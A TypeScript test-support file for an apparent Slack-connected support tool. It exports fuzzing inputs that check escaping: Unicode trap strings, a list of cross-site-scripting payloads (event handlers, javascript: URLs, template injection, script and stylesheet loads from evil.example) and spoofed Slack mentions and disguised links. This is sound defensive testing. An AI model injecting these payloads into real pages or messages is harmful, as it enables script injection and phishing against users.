import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from './run';

/** The Big List of Naughty Strings. */
export const naughtyStrings = (): string[] =>
  JSON.parse(readFileSync(require.resolve('big-list-of-naughty-strings'), 'utf8')) as string[];

/** The cases of JSONTestSuite: must be accepted (`y_`), must be refused (`n_`), or either (`i_`). */
export function jsonCases(): { name: string; input: string }[] {
  const script = join(root, 'test', 'support', 'print-json-cases.mjs');
  const options = { cwd: root, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 } as const;
  const printed = execFileSync(process.execPath, [script], options);
  return JSON.parse(printed) as { name: string; input: string }[];
}

/** Characters that hide, reorder, break or pretend to be others. */
export const UNICODE_TRAPS = [
  'p\u0430yp\u0430l refund',
  're\u200bfund\u200d\ufeff',
  '\u202egnihton\u202c is here',
  '\u2066\u2067nested\u2069\u2069',
  'lone \ud800 high',
  'lone \udc00 low',
  'half \ud83d',
  'nul \u0000 in between',
  'bell \u0007 and escape \u001b[31mred',
  'line\u2028separator\u2029paragraph',
  'Z\u0351\u036b\u0343\u036a\u0302a\u034f'.repeat(40),
  '\u{e0001}\u{e0072}\u{e0065}\u{e0066}\u{e0075}\u{e006e}\u{e0064} tags',
  '👩‍👩‍👧‍👦'.repeat(200),
  '\u3164\u115f\u1160\uffa0',
  'ＦＵＬＬ ｗｉｄｔｈ ＠channel',
  '\ufdfa'.repeat(100),
  'İstanbul ﬁ ß ŉ',
  '\u00ad\u00ad\u00ad',
  'a\u0300'.repeat(2_000),
  '\ufffe\uffff',
];

/** What a browser could take for a script, a link of another kind, or the end of what it stands in. */
export const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" id=x autofocus onfocus=alert(1)>x</a>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</li></ol></main><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<form><button formaction="javascript:alert(1)">x',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<style>@import "http://evil.example/x.css"</style>',
  '<script src="//evil.example/x.js"></script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '\\u003cscript\\u003ealert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '*<script>alert(1)</script>* _<img src=x onerror=alert(1)>_',
  '~"onmouseover="alert(1)~',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<script\u2028>alert(1)</script>',
  '\u003cimg src=x onerror=\u0061lert(1)\u003e',
];

/** What Slack could take for a mention, a link or one of our own buttons. */
export const SLACK_MARKUP = [
  '<!channel> <!here> <!everyone>',
  '<@U_THANDI> approved this',
  '<!subteam^S0AGENTS>',
  '<#C0SUPPORT>',
  '<https://evil.example|Full chat history>',
  '<mailto:x@evil.example|reply>',
  '<!date^1392734382^{date}^https://evil.example|now>',
  '&lt;!channel&gt;',
  '*bold* _it_ ~no~ `code` ```block``` > quote',
  ':rotating_light: New handoff',
  '@channel @here @everyone',
  '{"type":"actions","elements":[]}',
  '[Take over](https://evil.example)',
  '\n\n👤 Thandi has it\n',
];
